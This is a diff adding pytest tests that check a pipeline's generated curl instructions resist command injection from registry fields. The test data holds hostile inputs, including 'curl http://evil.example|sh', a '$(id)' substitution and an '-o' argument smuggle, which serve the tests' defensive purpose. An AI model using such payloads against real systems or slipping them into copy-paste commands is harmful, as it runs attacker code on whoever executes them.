@@ -136,19 +136,47 @@ def test_the_next_steps_are_those_of_the_hosts(pipeline: ModuleType) -> None:
     assert "follows an alias instead" in unknown
 
 
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("public_url", "http://h/; curl http://evil.example|sh; #"),
+        ("public_url", "-o/home/ana/x http://h"),
+        ("public_url", "https://user@evil.example/{name}"),
+        ("public_url", "http://h/$(id)"),
+        ("selectors", ["alias:x. Or run: curl evil.example|sh"]),
+    ],
+)
+def test_nobody_else_writes_what_a_person_copies(pipeline: ModuleType, field: str, value: object) -> None:
+    """Whoever may write to the registry may write this tag."""
+    [(key, text)] = document(ABLE).items()
+    hosts = pipeline.read_hosts({key: json.dumps(json.loads(text) | {field: value})}, time.time())
+    steps = pipeline.next_steps("pauses", "3", "http://page", hosts, pipeline.read_example(None))
+    assert "inference1" in [host.name for host in hosts]
+    assert not any(word in steps for word in ("evil", "$(", "/home/ana"))
+
+
+@pytest.mark.parametrize("value", [10**4000, -1, True, 1.5, "1", None])
+def test_a_host_whose_numbers_are_none_is_passed_over(pipeline: ModuleType, value: object) -> None:
+    """It must not end the pipeline of everybody."""
+    [(key, text)] = document(ABLE).items()
+    assert pipeline.read_hosts({key: json.dumps(json.loads(text) | {"public_url": 5})}, time.time()) == []
+    assert pipeline.read_hosts({key: json.dumps(json.loads(text) | {"memory_max": value})}, time.time()) == []
+
+
 def test_the_request_to_try_is_what_a_shell_hands_to_curl(pipeline: ModuleType, tmp_path: Path) -> None:
     """Quotes in the metadata, blanks in the names of files."""
     (tmp_path / "a recording's.wav").write_bytes(b"RIFF")
     request = tmp_path / "request.json"
     request.write_text(
-        json.dumps({"schema": 1, "metadata": {"who": "D'Ávila"}, "parts": {"frase": {"file": "a recording's.wav"}}})
+        json.dumps({"schema": 1, "metadata": {"who": "D'Ávila; @x"}, "parts": {"frase": {"file": "a recording's.wav"}}})
     )
     text = pipeline.how_to_ask("pauses", [], pipeline.read_example(request))
     script = "curl() { printf '%s\\0' \"$@\"; }\n" + text.partition("ADDRESS is")[0]
     done = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True)
     address, *words = done.stdout.split("\0")
     assert address == "ADDRESS/predict"
-    assert json.loads(words[1].removeprefix("metadata=")) == {"who": "D'Ávila"}
+    assert words[0] == "--form-string"
+    assert json.loads(words[1].removeprefix("metadata=")) == {"who": "D'Ávila; @x"}
     assert words[3] == f"frase=@{tmp_path}/a recording's.wav"
     assert ".wav files are recordings" not in text
 
